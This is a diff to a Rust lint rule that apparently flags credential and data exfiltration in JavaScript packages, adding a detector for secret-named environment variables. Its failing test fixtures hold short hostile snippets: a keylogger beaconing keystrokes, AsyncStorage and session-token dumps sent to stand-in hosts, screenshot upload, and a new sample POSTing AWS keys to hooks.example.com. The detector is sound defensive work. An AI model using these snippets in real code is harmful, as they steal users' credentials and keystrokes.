@@ -32,12 +32,14 @@ crate::declare_rule! {
         "let store = require('@react-native-async-storage/async-storage').default\nconst warm = () => store.getAllKeys().then((k) => store.multiGet(k)).then((p) => fetch('https://203.0.113.9/v1', { method: 'POST', body: JSON.stringify(p) }))",
         "const SID = /session|token|jwt/i\nconst sock = require('dgram').createSocket('udp4')\nfunction diag(obj) { const hits = []; for (const k in obj) if (SID.test(k)) hits.push(k + '=' + obj[k]); const m = Buffer.from(require('os').hostname() + hits.join(';')); sock.send(m, 0, m.length, 514, '198.51.100.4') }",
         "document.addEventListener('keydown', (e) => { buf.push(e.key); if (buf.length > 50) { new Image().src = 'https://k.example.net/c?d=' + encodeURIComponent(buf.join('')); buf = [] } })",
+        "async function snap() { const env = process.env; const out = [env.AWS_ACCESS_KEY_ID, env.AWS_SECRET_ACCESS_KEY, env.AWS_SESSION_TOKEN]; const req = https.request('https://hooks.example.com/x', { method: 'POST' }); req.end(JSON.stringify(out)) }\nsnap()",
         "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
     ],
     pass: [
         "function id() { const m = document.cookie.match(/_ga=([^;]+)/); return fetch('https://api.analytics.example/collect', { method: 'POST', body: JSON.stringify({ cid: m && m[1] }) }) }",
         "function persist() { for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out[k] = localStorage.getItem(k) } return fetch(options.endpoint, { method: 'POST', body: JSON.stringify(out) }) }",
         "document.addEventListener('keydown', (e) => { if (e.key === 'k' && e.metaKey) openPalette() })\nfunction load() { return fetch('https://cdn.example.com/icons.json') }",
+        "async function release() { return fetch('https://api.github.example/repos/o/r/releases', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ tag: process.env.TAG }) }) }",
         "async function shot(file) { await run('screencapture', ['-x', file]); return file }",
         "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
     ],
@@ -48,6 +50,29 @@ struct Src {
     off: u32,
     kind: &'static str,
     strong: bool,
+    /// The secret's name, for sources counted by name (environment variables).
+    name: String,
+}
+
+/// Secret-named environment variables (`process.env.AWS_SECRET_ACCESS_KEY`, `env.NPM_TOKEN`
+/// through an alias of `process.env`): one is a client using its key, three or more sent
+/// together from one function are a harvest.
+fn secret_env_uses(text: &str) -> Vec<Src> {
+    let re = crate::regex!(
+        r#"\benv\.([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)\b|\benv\[\s*['"]([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)['"]\s*\]"#
+    );
+    re.captures_iter(text)
+        .take(64)
+        .filter_map(|c| {
+            let m = c.get(1).or(c.get(2))?;
+            Some(Src {
+                off: m.start() as u32,
+                kind: "secret environment variables",
+                strong: false,
+                name: m.as_str().to_string(),
+            })
+        })
+        .collect()
 }
 
 fn sources(f: &FileCtx) -> Vec<Src> {
@@ -79,7 +104,9 @@ fn sources(f: &FileCtx) -> Vec<Src> {
             "requestHeaders"
         ]
     ) {
-        return secret_pattern_uses(text);
+        let mut out = secret_pattern_uses(text);
+        out.extend(secret_env_uses(text));
+        return out;
     }
     let table: &[(&crate::rules::gate::Re, &'static str, bool)] = &[
         (
@@ -151,10 +178,12 @@ fn sources(f: &FileCtx) -> Vec<Src> {
                 off: m.start() as u32,
                 kind,
                 strong: *strong,
+                name: String::new(),
             });
         }
     }
     out.extend(secret_pattern_uses(text));
+    out.extend(secret_env_uses(text));
     out
 }
 
@@ -185,6 +214,7 @@ fn secret_pattern_uses(text: &str) -> Vec<Src> {
                 off: i as u32,
                 kind: "values matching a secret pattern",
                 strong: false,
+                name: String::new(),
             });
         }
     }
@@ -344,9 +374,22 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 continue;
             }
             let kinds: std::collections::BTreeSet<&str> = here.iter().map(|s| s.kind).collect();
+            let env_names: std::collections::BTreeSet<&str> = here
+                .iter()
+                .filter(|s| !s.name.is_empty())
+                .map(|s| s.name.as_str())
+                .collect();
+            // Sources other than environment variables: a client sends its own key to its own
+            // API, so a key or two next to a fixed URL is no theft.
+            let other_kinds = kinds.len() - usize::from(!env_names.is_empty());
             let span = scope.unwrap_or((0, f.text.len() as u32));
-            let strong =
-                here.iter().any(|s| s.strong) || kinds.len() >= 2 || identity_in(&f.text, span);
+            let strong = here.iter().any(|s| s.strong)
+                || env_names.len() >= 3
+                || other_kinds >= 2
+                || other_kinds >= 1 && identity_in(&f.text, span);
+            if !strong && other_kinds == 0 {
+                continue;
+            }
             let sev = if strong {
                 Severity::Critical
             } else {
